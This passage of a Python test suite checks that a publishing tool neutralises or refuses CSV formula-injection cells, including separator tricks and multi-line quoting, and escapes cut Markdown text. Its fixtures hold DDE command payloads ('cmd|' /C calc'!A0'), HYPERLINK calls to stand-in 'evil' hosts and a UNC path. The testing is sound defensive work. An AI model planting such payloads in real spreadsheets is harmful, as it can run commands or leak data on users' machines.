        (["-5", "Discount (SUMMER)"], ";", ["-5", "Discount (SUMMER)"]),
        (["x;-1,5+(cmd|' /C calc'!A0)"], ",", ["x;'-1,5+(cmd|' /C calc'!A0)"]),
        (["x;-1", "5&(HYPERLINK(1))"], ",", ["x;'-1", "5&(HYPERLINK(1))"]),
        (
            ["x;-1", "5+'\\\\evil\\s\\[a.xlsx]S'!A1"],
            ",",
            ["x;'-1", "5+'\\\\evil\\s\\[a.xlsx]S'!A1"],
        ),
        (["2026-05-04", "x;y", "-3", "f(x)"], ",", ["2026-05-04", "x;y", "-3", "f(x)"]),
        (["x;", "-1+cmd|x!A0"], ",", ["x;", "'-1+cmd|x!A0"]),
    ],
)
def test_a_cell_another_reader_sees_across_ours_is_neutralised_where_it_starts(
    cells: list[str], delimiter: str, expected: list[str]
) -> None:
    assert spreadsheet_row(cells, delimiter) == expected


def test_a_linked_semicolon_csv_read_as_a_comma_csv_keeps_no_formula(
    scratch_project: ScratchProject,
) -> None:
    # Its header ragged at `;`, it is read at `,`: `x;-1,5+cmd|…` was published as it
    # was, a formula to a spreadsheet splitting on `;`.
    links_charter(scratch_project, [("Raw", "eu.csv")])
    raw = "name;value;extra\nx;-1,5+cmd|' /C calc'!A0\n"
    scratch_project.write("charters/routing/eu.csv", raw)
    assert scratch_project.build().ok
    text = (scratch_project.out / "charters/routing/eu.csv").read_text(encoding="utf-8")
    for delimiter in ",;":
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            for cell in row:
                assert not (cell[:1] in "+-" and "|" in cell), (delimiter, cell)
    assert "x;'-1,5+cmd|' /C calc'!A0" in text


@pytest.mark.parametrize(
    ("name", "raw", "shown", "row"),
    [
        # A `;` file with a title line is read at `,`, where the `"` after a `;` is text
        # and each line a row: no cell needed a `'`, and it was published as written. To a
        # spreadsheet splitting on `;` the quote opens a cell that holds the line break.
        (
            "semi.csv",
            "Weekly export\ndate;value;note\n2026-09-01;-1,5;ok\n"
            "2026-09-02;\"+\ncmd|' /C calc'!A0\";x\n",
            "';'",
            4,
        ),
        ("comma.csv", "a,b\nx;\"-1,5+\ncmd|' /C calc'!A0+1\",5\n", "';'", 2),
        ("tabs.tsv", "a\tb\nx,\"-1+\ncmd|' /C calc'!A0\"\t5\n", "','", 2),
        # A quote that opens a cell at `;` hides a `;` from the rule, which cut the piece
        # there: to that reader the cell is `+"x;"&HYPERLINK(…)`, on one line.
        ("evil.csv", 'a,b\nx,y;"+""x;""&HYPERLINK(""http://evil/"")"\n', "';'", 2),
    ],
)
def test_a_linked_csv_with_a_formula_to_a_reader_at_another_separator_is_refused(
    scratch_project: ScratchProject, name: str, raw: str, shown: str, row: int
) -> None:
    where, error = _refused(scratch_project, name, raw)
    assert error.startswith(
        f"{where}read with {shown} between cells, as a spreadsheet set to it reads it, its"
        f" row {row} has a cell that may run as a formula"
    ), error


def _refused(scratch_project: ScratchProject, name: str, raw: str) -> tuple[str, str]:
    """The one error of a build of a charter whose link names `name` (holding `raw`), and
    what it starts with (where the link is, and that it cannot be published); the build
    wrote nothing."""
    text = links_charter(scratch_project, [("Raw", name)])
    scratch_project.write(f"charters/routing/{name}", raw)
    result = scratch_project.build()
    assert not result.ok
    assert not scratch_project.out.exists()
    (error,) = [d.format_text() for d in result.diagnostics if d.severity == "error"]
    url = at(text, "url: ", name)
    return (
        f"charters/routing/charter.yaml:{url}: links[0].url: {name!r} cannot be published: ",
        error,
    )


@pytest.mark.parametrize(
    ("first", "name"),
    [
        ("sep=|", "pipes.csv"),
        ("SEP=;", "caps.csv"),
        ('"sep=:"', "quoted.csv"),
        ("sep=|", "t.tsv"),
        # Quoted as the user wrote it, not as it would be published (`sep=|,'=A1`).
        ("sep=|,=A1", "rewritten.csv"),
    ],
)
def test_a_linked_csv_that_names_a_separator_not_looked_at_is_refused(
    scratch_project: ScratchProject, first: str, name: str
) -> None:
    # Excel splits at any separator a first line `sep=` names: at `|` this file's second
    # cell is a live call, and it was published as written (only `,`, `;` and a tab are
    # read for formulas).
    raw = f'{first}\nname|value\nx|=HYPERLINK("http://evil.example/";"click")\n'
    where, error = _refused(scratch_project, name, raw)
    assert error == (
        f"{where}its first line ({first!r}) may name a separator for a spreadsheet (Excel"
        " splits cells at any character after 'sep='), and only the lines 'sep=,', 'sep=;'"
        " and 'sep=' with a tab, written just so, are read as such here (its cells are looked"
        " at for formulas at those); write one of them, or change the first line so that it"
        " does not start with 'sep='"
    )


@pytest.mark.parametrize(
    ("raw", "written", "published"),
    [
        # Its cell `sep=;` written out: Excel would hide the header and split rows at `;`.
        ('"s"ep=;\nx,=1+1\n', '"s"ep=;', "sep=;"),
        ('"s"ep=|,=1\nx|=HYPERLINK("http://e/";"c")\n', '"s"ep=|,=1', "sep=|,'=1"),
    ],
)
def test_a_linked_csv_whose_rewriting_makes_a_separator_line_is_refused(
    scratch_project: ScratchProject, raw: str, written: str, published: str
) -> None:
    where, error = _refused(scratch_project, "q.csv", raw)
    assert error == (
        f"{where}its first line ({written!r}) would be published as {published!r}, which a"
        " spreadsheet may take for a line naming a separator; change the first line so that"
        " its first cell does not start with 'sep='"
    )


def test_a_first_line_ends_at_a_carriage_return_too(scratch_project: ScratchProject) -> None:
    # Old Macs end lines with CR alone: the first line ran to the end of such a file, which
    # was refused as a `sep=` line it was not, and published once a cell needed a `'`.
    links_charter(scratch_project, [("Mac", "mac.csv"), ("Mac2", "mac2.csv")])
    scratch_project.write("charters/routing/mac.csv", "sep=;\rname;value\rx;1\r")
    scratch_project.write("charters/routing/mac2.csv", "sep=|\rname|value\rx|=1+1\r")
    result = scratch_project.build()
    (error,) = [d.message for d in result.diagnostics if d.severity == "error"]
    assert error.startswith("'mac2.csv' cannot be published: its first line ('sep=|') may")


def test_a_linked_file_written_as_a_folder_is_published_and_warned_of(
    scratch_project: ScratchProject,
) -> None:
    # `queries/weekly.sql/`: the file is published, but the page's link asks for a page
    # inside it; it was not warned of (the same link in Markdown was).
    links_charter(scratch_project, [("Query", "queries/weekly.sql/")])
    scratch_project.write("charters/routing/queries/weekly.sql", "select 1;\n")
    result = scratch_project.build()
    assert result.ok
    assert [d.message for d in result.diagnostics if d.code == "link-target"] == [
        "'queries/weekly.sql/' is to the file 'queries/weekly.sql' as if it were a folder;"
        " the link will be broken"
    ]
    assert (scratch_project.out / "charters/routing/queries/weekly.sql").is_file()


def test_a_linked_csv_with_spaced_mentions_and_prose_is_published(
    scratch_project: ScratchProject,
) -> None:
    # Hand-written rows: a space after each comma, a mention, amounts before prose.
    links_charter(scratch_project, [("Notes", "notes.csv")])
    raw = 'week, owner, delta, note\n1, @alice, -5, "Great week!"\n2, @bob, -1,5; fell (week 3)\n'
    scratch_project.write("charters/routing/notes.csv", raw)
    assert scratch_project.build().ok
    published = scratch_project.out / "charters/routing/notes.csv"
    assert published.read_text(encoding="utf-8") == raw


def test_linked_csv_notes_of_many_lines_are_read_as_each_reader_splits_them(
    scratch_project: ScratchProject,
) -> None:
    # A bullet line with prose in brackets was refused (the whole build failed); a call on
    # a line of its own in a `;` file, which a spreadsheet splitting on tabs starts a cell
    # with, was published live (its piece was cut at the `,` no such reader splits on);
    # a quote left open to a reader at `;` (a cell ending in `;"`) ran past its limit
    # and refused the file.
    links_charter(scratch_project, [("Steps", "steps.csv"), ("DE", "de.csv"), ("SQL", "q.csv")])
    steps = 'id,note\n1,"Steps:\n- open settings; go to Billing - Invoices (PDF)"\n'
    german = "id;note\n1;\"Notiz\n-1,5+(cmd|' /C calc'!A0)\nEnde\"\n"
    sql = 'id,sql\n1,"SELECT a, b FROM t;"\n' + "".join(f"{i},x\n" for i in range(2, 20_000))
    for name, raw in (("steps.csv", steps), ("de.csv", german), ("q.csv", sql)):
        scratch_project.write(f"charters/routing/{name}", raw)
    assert scratch_project.build().ok
    out = scratch_project.out / "charters/routing"
    assert (out / "steps.csv").read_text(encoding="utf-8") == steps
    assert (out / "q.csv").read_text(encoding="utf-8") == sql
    rows = list(
        csv.reader(io.StringIO((out / "de.csv").read_text(encoding="utf-8")), delimiter=";")
    )
    assert rows[1] == ["1", "Notiz\n'-1,5+(cmd|' /C calc'!A0)\nEnde"]


def test_a_lone_carriage_return_starts_a_row_for_the_files_own_reader_too() -> None:
    # Python's CSV writer, writing `\n` line ends, leaves a cell with a lone `\r`
    # unquoted: every reader starts a row after it, the file's own reader included.
    cell = "y\r-{1,2;3}+cmd|' /C calc'!A0"
    assert spreadsheet_cell(cell, "\t") == "y\r'-{1,2;3}+cmd|' /C calc'!A0"
    assert spreadsheet_cell("ok\r-1\tx", "\t") == "ok\r-1\tx"


def test_many_pieces_in_a_long_row_are_neutralised_in_one_pass() -> None:
    # Each `'` rebuilt the whole row: 8,000 cells took over a second, a 1 MB line minutes.
    row = spreadsheet_row(["a;-1", "b(x)"] * 20_000)
    assert row[:4] == ["a;'-1", "b(x)", "a;'-1", "b(x)"] and len(row) == 40_000


@pytest.mark.parametrize(
    ("raw", "published"),
    [
        # A tab-separated file named .csv: read at `,`, each row was one cell, and the rule
        # let `+(49)` pass while the look at each reader refused the file.
        (
            'Name\tPhone\n"Muller, Hans"\t+(49) 30 123456\n',
            "Name\tPhone\nMuller, Hans\t'+(49) 30 123456\n",
        ),
        # A blank line at the end made the `;` rows uneven: read at `,`, refused.
        (
            'Monat;Notiz\nJan;"-3,5 %\nQuelle: Statistik(Amt)"\n\n',
            'Monat;Notiz\nJan;"\'-3,5 %\nQuelle: Statistik(Amt)"\n\n',
        ),
        # Excel's `sep=;` first line names the separator.
        (
            'sep=;\nMonat;Wert;Notiz\nJan;"-3,5 %\nlaut max(Wert)"\n',
            'sep=;\nMonat;Wert;Notiz\nJan;"\'-3,5 %\nlaut max(Wert)"\n',
        ),
        # Rewritten at `,`, its quoting was lost to the reader at `;`.
        (
            'Name;Notiz;Handle\nA;"Hallo; Welt";@bob\n\n',
            'Name;Notiz;Handle\nA;"Hallo; Welt";\'@bob\n\n',
        ),
    ],
)
def test_a_linked_csv_is_read_at_the_separator_it_is_written_with(
    scratch_project: ScratchProject, raw: str, published: str
) -> None:
    links_charter(scratch_project, [("Data", "data.csv")])
    scratch_project.write("charters/routing/data.csv", raw)
    assert scratch_project.build().ok
    out = scratch_project.out / "charters/routing/data.csv"
    assert out.read_text(encoding="utf-8") == published


# --- charter text cut to fit the comment -----------------------------------------------------


def test_a_cut_cell_keeps_the_escaping_whole() -> None:
    """A table cell is cut to fit the comment: cut before it is escaped, wherever it falls
    no escape is split, no `@` or `#` loses its zero-width space, and the cell is one cell
    that shows the text as written up to an `…`."""
    text = HOSTILE_TITLE * 2
    for most in range(1, len(HOSTILE_TITLE) + 1):
        cell = escape_markdown(cut_text(text, most))
        assert cell.endswith("…")
        assert_no_live_markdown(cell)
        assert re.sub(r"\\(.)", r"\1", cell).replace("\u200b", "") == text[:most] + "…"
        html = cmarkgfm.github_flavored_markdown_to_html(f"| a | b |\n| - | - |\n| x | {cell} |\n")
        assert html.count("<td>") == 2 and "<a " not in html and "<img" not in html, cell


# What shows as one character, of one code point or more: a cut never splits one.
SHOWN_AS_ONE = [
    "e\u0301",  # e and a combining accent
    "\U0001f469\u200d\U0001f4bb",  # woman, joiner, laptop: one emoji
    "\U0001f1eb\U0001f1f7",  # a flag: two regional indicators
    "\U0001f1e9\U0001f1ea",
    "\U0001f44d\U0001f3fd",  # thumbs up with a skin tone
    "\u2764\ufe0f",  # a heart with its variation selector
    "\ud83d\ude00",  # a surrogate pair, as YAML reads the escapes "\ud83d\ude00"
    "x",
    "a\u0308\u0301",
]


def test_a_cut_never_splits_a_character() -> None:
    """Cut at every place, from the start or from a place (two long values are shown from
    where they differ), a cell starts and ends between two characters as shown."""
    text = "".join(SHOWN_AS_ONE * 3)
    ends = set(itertools.accumulate(len(c) for c in SHOWN_AS_ONE * 3))
    for most in range(1, len(text)):
        kept = cut_text(text, most)
        assert kept.endswith("…") and len(kept) - 1 in ends and text.startswith(kept[:-1]), most
        window = cut_text(text, 5, most)  # shown from `most`, as two long values are
        shown = window.strip("…")
        assert window.startswith("…") and any(
            text.startswith(shown, start) and start + len(shown) in ends for start in ends
        ), most


def test_a_cut_message_closes_the_code_span_it_falls_in() -> None:
    """A message in a cell (a charter added, a finding) keeps its ids as code spans: a cut
    inside one closes it after the `…`, so no backtick is left to pair with another and
    make the rest of the comment code, or an id live text."""
    ids = ["a" * 20, "b|c", "d" * 20]
    message = f"`{ids[0]}` was @team `{ids[1]}` then `{ids[2]}` and a`lone [x](y)"
    for most in range(1, len(message) + 2):
        cell = escape_message(cut_message(message, most), table=True)
        bare = re.sub(r"\\.", "", cell)
        assert bare.count("`") % 2 == 0, cell
        html = cmarkgfm.github_flavored_markdown_to_html(f"| a |\n| - |\n| {cell} |\n")
        assert html.count("<td>") == 1 and "<a " not in html, cell
        for code in re.findall("<code>(.*?)</code>", html):
            shown = code.replace("…", "")
            assert any(x.startswith(shown) for x in ids) and (code.endswith("…") or shown in ids)
